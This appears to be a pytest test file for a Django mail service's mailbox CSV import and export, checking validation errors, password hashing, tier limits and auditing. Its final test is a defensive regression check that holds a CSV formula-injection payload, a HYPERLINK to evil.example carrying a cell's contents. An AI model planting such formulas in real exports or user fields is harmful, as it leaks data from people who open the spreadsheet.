"""Mailbox CSV import and export: every row checked, every bad line reported, all or nothing."""

import csv

import pytest
from django.contrib.auth import authenticate
from django.contrib.auth.hashers import get_hasher, identify_hasher
from django.test import Client

from accounts.hashers import DockspaceArgon2PasswordHasher
from accounts.mail_hashes import mail_hash, verify_mail_hash
from accounts.models import AuditEvent, User
from accounts.tests.factories import PASSWORD
from mail import csv_io, services
from mail.csv_io import CsvImportError, mailboxes_export_csv, mailboxes_import_csv
from mail.models import Mailbox, Tier
from mail.tests.factories import make_mailbox, run

ACTOR = "test import"
GIB = 1024**3


@pytest.fixture
def domain(db):
    return services.domain_create(name="example.com", default_quota=GIB, actor_label="test")


def write(tmp_path, text, name="people.csv"):
    path = tmp_path / name
    path.write_bytes(text.encode() if isinstance(text, str) else text)
    return path


def import_text(tmp_path, text):
    return mailboxes_import_csv(write(tmp_path, text), actor_label=ACTOR)


def import_errors(tmp_path, text):
    with pytest.raises(CsvImportError) as caught:
        import_text(tmp_path, text)
    return caught.value.errors


@pytest.mark.django_db
def test_it_creates_every_row_and_each_person_signs_in_with_their_password(tmp_path, domain):
    result = import_text(
        tmp_path,
        "address,name,quota,password\n"
        "Ann@Example.com,Ann Lee,2G,first sunny password\n"
        "bob@example.com,,,second rainy password\n",
    )

    assert result.created == 2
    ann = Mailbox.objects.get(address="ann@example.com")
    assert (ann.person.full_name, ann.quota, ann.state) == ("Ann Lee", 2 * GIB, "active")
    assert Mailbox.objects.get(address="bob@example.com").quota == GIB  # the domain's default
    assert authenticate(email="ann@example.com", password="first sunny password") == ann.person
    assert authenticate(email="bob@example.com", password="second rainy password") is not None
    assert verify_mail_hash("first sunny password", ann.person.mail_password_hash)


@pytest.mark.django_db
def test_a_bad_row_in_the_middle_imports_nothing_and_names_its_line(tmp_path, domain):
    errors = import_errors(
        tmp_path,
        "address,name\na@example.com,A\nb@example.com,B\nc@elsewhere.org,C\nd@example.com,D\ne@example.com,E\n",
    )

    assert len(errors) == 1
    assert errors[0].startswith("line 4: address: elsewhere.org is not a domain Dockspace manages")
    assert not Mailbox.objects.exists()
    assert not User.objects.exists()


@pytest.mark.django_db
def test_every_bad_line_is_reported_in_line_order(tmp_path, domain):
    errors = import_errors(
        tmp_path,
        "address,quota,password\n"
        "ok@example.com,1G,a long enough passphrase\n"
        "not-an-address,1G,\n"
        "\n"
        "x@nowhere.org,,\n"
        "q@example.com,10GB,\n"
        "w@example.com,,short\n",
    )

    assert [e.split(":", 2)[:2] for e in errors] == [
        ["line 3", " address"],
        ["line 5", " address"],
        ["line 6", " quota"],
        ["line 7", " password"],
    ]
    assert not Mailbox.objects.exists()


@pytest.mark.django_db
def test_the_error_text_starts_with_a_summary_then_one_line_per_problem(tmp_path, domain):
    with pytest.raises(CsvImportError) as caught:
        import_text(tmp_path, "address\nbad\nworse\n")

    lines = str(caught.value).splitlines()
    assert lines[0].startswith("Nothing was imported from ")
    assert "2 problem(s)" in lines[0]
    assert lines[1].startswith("line 2: address: ") and lines[2].startswith("line 3: address: ")


@pytest.mark.django_db
@pytest.mark.parametrize(
    "row, expected",
    [
        ("bob@@example.com,,,,", "address: 'bob@@example.com' is not an email address"),
        ("bob@unmanaged.org,,,,", "address: unmanaged.org is not a domain Dockspace manages"),
        ("taken@example.com,,,,", "address: taken@example.com is already a mailbox"),
        ("info@example.com,,,,", "address: info@example.com is already an alias"),
        ("team@example.com,,,,", "address: team@example.com is already a list"),
        ("bob@example.com,,2 G,,", "quota: '2 G' is not a quota"),
        ("bob@example.com,,5K,,", "Write a lower-case k: 5k."),
        ("bob@example.com,,,,tiny", "password: This password is too short"),
        ("bob@example.com,,,,password123", "password: This password is too common"),
        ("bob@example.com,,,,bob@example.com!!", "password: The password is too similar"),
        ("bob@example.com,,,{PLAIN}secret,", "password_hash: Dockspace cannot verify the PLAIN scheme"),
        ("bob@example.com,,,$6$abc$def,", "password_hash: it has no {SCHEME} prefix"),
        ("bob@example.com,,,{SHA512-CRYPT}$6$x,a long enough passphrase", "password: give either password or"),
        ("bob@example.com,frozen,,,", "state: 'frozen' is not one of active, suspended, disabled"),
        ("bob@example.com,,,", "row: has 4 fields but the header names 5 columns"),
    ],
)
def test_a_bad_row_is_reported_with_its_line_field_and_rule(tmp_path, domain, row, expected):
    services.mailbox_create(address="taken@example.com", actor_label="test")
    services.alias_create(address="info@example.com", targets=["taken@example.com"], actor_label="test")
    services.group_create(name="Team", address="team@example.com", actor_label="test")

    errors = import_errors(tmp_path, f"address,state,quota,password_hash,password\nfine@example.com,,,,\n{row}\n")

    assert len(errors) == 1
    assert errors[0].startswith("line 3: ")
    assert expected in errors[0]
    assert not Mailbox.objects.filter(address="fine@example.com").exists()


@pytest.mark.django_db
@pytest.mark.parametrize(
    "limits, rows, expected",
    [
        ({"max_mailboxes": 2}, ["a@example.com,1G", "b@example.com,1G", "c@example.com,1G"], "line 4: address: tier"),
        ({"max_quota_per_mailbox": GIB}, ["a@example.com,1G", "b@example.com,2G"], "line 3: quota: tier"),
        ({"total_quota": 3 * GIB}, ["a@example.com,2G", "b@example.com,2G"], "line 3: quota: tier"),
    ],
)
def test_tier_limits_count_the_rows_above_in_the_same_file(tmp_path, domain, limits, rows, expected):
    domain.tier = Tier.objects.create(name="small", **limits)
    domain.save()

    errors = import_errors(tmp_path, "address,quota\n" + "\n".join(rows) + "\n")

    assert len(errors) == 1 and errors[0].startswith(expected)
    assert not Mailbox.objects.exists()


@pytest.mark.django_db
def test_addresses_differing_only_in_case_are_duplicates(tmp_path, domain):
    errors = import_errors(tmp_path, "address\nbob@example.com\nann@example.com\nBOB@Example.COM\n")

    assert errors == ["line 4: address: bob@example.com is also on line 2 (addresses are compared in lower case)."]
    assert not Mailbox.objects.exists()


@pytest.mark.django_db
@pytest.mark.parametrize(
    "content, expected",
    [
        (b"", "line 1: file: is empty"),
        (b"\n\n", "line 1: file: is empty"),
        (b"address,name\n", "line 2: file: has no mailbox rows after the header"),
        (b"bob@example.com,Bob\n", "line 1: header: the first line must name the columns"),
        (b"name,quota\nBob,1G\n", "line 1: header: the column 'address' is required"),
        (b"address,shoe_size\nbob@example.com,44\n", "line 1: header: unknown column 'shoe_size'"),
        (b"address,name,Name\nbob@example.com,B,B\n", "line 1: header: the column 'name' appears 2 times"),
        (
            b"address;name\nbob@example.com;B\n",
            "line 1: header: unknown column 'address;name'; the columns are address, name, quota, state, password, "
            "password_hash. The file seems to use ';' between columns: save it with commas.",
        ),
        (b"address,name\nbob@example.com,B\nann@example.com,Ren\xe9\n", "line 3: file: is not UTF-8 text"),
        (b'address,name\nbob@example.com,"Bob\n', "line 2: file: not readable as CSV"),
    ],
)
def test_a_file_that_cannot_be_read_as_mailbox_rows_is_refused(tmp_path, domain, content, expected):
    errors = import_errors(tmp_path, content)

    assert any(e.startswith(expected) for e in errors), errors
    assert not Mailbox.objects.exists()


@pytest.mark.django_db
def test_a_missing_file_is_reported_not_raised_as_a_traceback(tmp_path, domain):
    with pytest.raises(CsvImportError, match="file: cannot read"):
        mailboxes_import_csv(tmp_path / "nope.csv", actor_label=ACTOR)


@pytest.mark.django_db
def test_a_byte_order_mark_and_crlf_line_ends_are_accepted(tmp_path, domain):
    import_text(tmp_path, b"\xef\xbb\xbfAddress,Name\r\nbob@example.com,Bob\r\n")

    assert Mailbox.objects.get().person.full_name == "Bob"


@pytest.mark.django_db
def test_a_password_hash_is_kept_for_mail_and_lets_the_person_sign_in(tmp_path, domain):
    hashed = mail_hash("an old dms password", "SHA512-CRYPT")

    import_text(tmp_path, f"address,password_hash\nold@example.com,{hashed}\n")

    person = User.objects.get(email="old@example.com")
    assert person.mail_password_hash == hashed
    assert person.password == "dms$" + hashed
    assert authenticate(email="old@example.com", password="an old dms password") == person


@pytest.mark.django_db
def test_a_row_without_a_password_gets_a_mailbox_nobody_can_sign_in_to_yet(tmp_path, domain):
    import_text(tmp_path, "address\nnew@example.com\n")

    person = User.objects.get(email="new@example.com")
    assert not person.has_usable_password()
    assert person.mail_password_hash.startswith("{SHA512-CRYPT}$6$")


@pytest.mark.django_db
def test_a_state_column_suspends_or_disables_the_new_mailbox(tmp_path, domain):
    import_text(tmp_path, "address,state\na@example.com,active\nb@example.com,suspended\nc@example.com,Disabled\n")

    assert dict(Mailbox.objects.values_list("address", "state")) == {
        "a@example.com": "active",
        "b@example.com": "suspended",
        "c@example.com": "disabled",
    }


@pytest.mark.django_db
def test_an_existing_person_without_a_mailbox_gets_it_and_the_new_password_when_told_to(tmp_path, domain):
    person = User.objects.create_user("carol@example.com", "her previous password")

    path = write(tmp_path, "address,password\ncarol@example.com,her brand new password\n")
    mailboxes_import_csv(path, actor_label=ACTOR, replace_passwords=True)

    assert Mailbox.objects.get().person == person
    assert authenticate(email="carol@example.com", password="her brand new password") == person


@pytest.mark.django_db
def test_a_row_does_not_replace_an_existing_persons_password_unless_told_to(tmp_path, domain):
    person = User.objects.create_user("carol@example.com", "her previous password")

    with pytest.raises(CsvImportError) as e:
        import_text(tmp_path, "address,password\nann@example.com,\ncarol@example.com,her brand new password\n")

    assert "line 3: password: carol@example.com is an existing person's sign-in address" in str(e.value)
    assert "--replace-passwords" in str(e.value)
    assert not Mailbox.objects.exists()
    assert authenticate(email="carol@example.com", password="her previous password") == person


@pytest.mark.django_db
def test_a_row_without_a_password_gives_an_existing_person_the_mailbox_and_keeps_their_password(tmp_path, domain):
    person = User.objects.create_user("carol@example.com", "her previous password")

    import_text(tmp_path, "address,password\ncarol@example.com,\n")

    assert Mailbox.objects.get().person == person
    assert authenticate(email="carol@example.com", password="her previous password") == person
    event = AuditEvent.objects.get(action="mail.mailbox.add")
    assert "adopting the existing person carol@example.com" in event.description


@pytest.mark.django_db
def test_each_password_is_hashed_once_for_mail_and_argon2_waits_for_the_first_sign_in(tmp_path, domain, monkeypatch):
    monkeypatch.setattr(csv_io, "POOL_MIN_PASSWORDS", 2)
    mail_hashed, argon2_hashed = [], []
    original_mail_hash, original_encode = csv_io.mail_hash, DockspaceArgon2PasswordHasher.encode

    def counting_mail_hash(password, scheme):
        mail_hashed.append(password)
        return original_mail_hash(password, scheme)

    def counting_encode(self, password, salt):
        argon2_hashed.append(password)
        return original_encode(self, password, salt)

    monkeypatch.setattr(csv_io, "mail_hash", counting_mail_hash)
    monkeypatch.setattr(DockspaceArgon2PasswordHasher, "encode", counting_encode)
    rows = [(f"user{i}@example.com", f"pass phrase number {i}") for i in range(4)]

    import_text(tmp_path, "address,password\n" + "".join(f"{a},{p}\n" for a, p in rows))

    assert sorted(mail_hashed) == sorted(p for _, p in rows)
    assert argon2_hashed == []
    for address, password in rows:
        person = User.objects.get(email=address)
        # The web password is the mail hash behind the dms$ marker until the first sign-in.
        assert person.password == f"dms${person.mail_password_hash}"
        assert authenticate(email=address, password=password) == person
        person.refresh_from_db()
        assert identify_hasher(person.password).algorithm == "argon2"
        assert not get_hasher().must_update(person.password)
        assert verify_mail_hash(password, person.mail_password_hash)
    assert sorted(argon2_hashed) == sorted(p for _, p in rows)


@pytest.mark.django_db
def test_an_imported_person_with_a_wrong_password_stays_on_the_mail_hash(tmp_path, domain):
    import_text(tmp_path, "address,password\nann@example.com,her imported password\n")

    assert authenticate(email="ann@example.com", password="not her password at all") is None
    assert User.objects.get(email="ann@example.com").password.startswith("dms${SHA512-CRYPT}")


@pytest.mark.django_db
def test_a_failed_import_hashes_no_password(tmp_path, domain, monkeypatch):
    hashed = []
    monkeypatch.setattr(csv_io, "_hash_pair", lambda password, scheme: hashed.append(password))

    import_errors(
        tmp_path, "address,password\na@example.com,a long enough passphrase\nb@nowhere.org,another one here\n"
    )

    assert hashed == []


@pytest.mark.django_db
def test_the_import_is_audited_once_plus_once_per_mailbox(tmp_path, domain):
    import_text(tmp_path, "address\na@example.com\nb@example.com\n")

    events = AuditEvent.objects.filter(actor_label=ACTOR)
    assert events.filter(action="mail.mailbox.import").count() == 1
    assert events.filter(action="mail.mailbox.add").count() == 2


@pytest.mark.django_db
def test_export_writes_every_mailbox_without_passwords(tmp_path, domain):
    services.mailbox_create(
        address="ann@example.com",
        full_name="Ann, Lee",
        quota=1536 * 1024**2,
        password="ann's password x",
        actor_label="t",
    )
    bob = services.mailbox_create(address="bob@example.com", quota=0, actor_label="t")
    services.mailbox_set_state(mailbox=bob, state="suspended", actor_label="t")
    path = tmp_path / "out.csv"

    assert mailboxes_export_csv(path) == 2

    assert path.read_text() == (
        'address,name,quota,state\nann@example.com,"Ann, Lee",1536M,active\nbob@example.com,,0,suspended\n'
    )


@pytest.mark.django_db
def test_an_export_imports_back_the_same_mailboxes_into_a_fresh_domain(tmp_path, domain):
    services.mailbox_create(address="ann@example.com", full_name="Ann Lée", quota=3 * GIB, actor_label="t")
    bob = services.mailbox_create(address="bob@example.com", full_name="Bob", quota=0, actor_label="t")
    services.mailbox_set_state(mailbox=bob, state="disabled", actor_label="t")
    path = tmp_path / "out.csv"
    mailboxes_export_csv(path)
    before = list(Mailbox.objects.values_list("address", "person__full_name", "quota", "state"))
    for mailbox in Mailbox.objects.all():
        services.mailbox_remove(mailbox=mailbox, keep_person=False, actor_label="t")
    services.domain_remove(domain=domain, actor_label="t")
    services.domain_create(name="example.com", default_quota=5 * GIB, actor_label="t")

    result = mailboxes_import_csv(path, actor_label=ACTOR)

    assert result.created == 2
    assert list(Mailbox.objects.values_list("address", "person__full_name", "quota", "state")) == before


# Finding 9: the export neutralises a cell a spreadsheet would evaluate (dockspace.csv_cells).
FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Click")'


def read_rows(path):
    with open(path, newline="", encoding="utf-8") as f:
        return list(csv.reader(f))


@pytest.mark.django_db
def test_mailbox_export_neutralises_a_formula_chosen_as_a_self_service_name(tmp_path):
    mallory = make_mailbox("mallory@example.com", password=PASSWORD)
    make_mailbox("ann@example.com", full_name="Ann Lee")
    browser = Client()
    browser.post("/login/", {"email": "mallory@example.com", "password": PASSWORD})
    assert browser.post("/profile/edit/", {"full_name": FORMULA}).status_code == 302
    mallory.person.refresh_from_db()
    assert mallory.person.full_name == FORMULA  # the name itself is stored as typed

    path = tmp_path / "people.csv"
    run("mailbox", "export", "--csv", str(path))

    rows = {row[0]: row for row in read_rows(path)[1:]}
    assert rows["mallory@example.com"][1] == "'" + FORMULA
    assert rows["ann@example.com"][1] == "Ann Lee"  # positive control: ordinary names unchanged
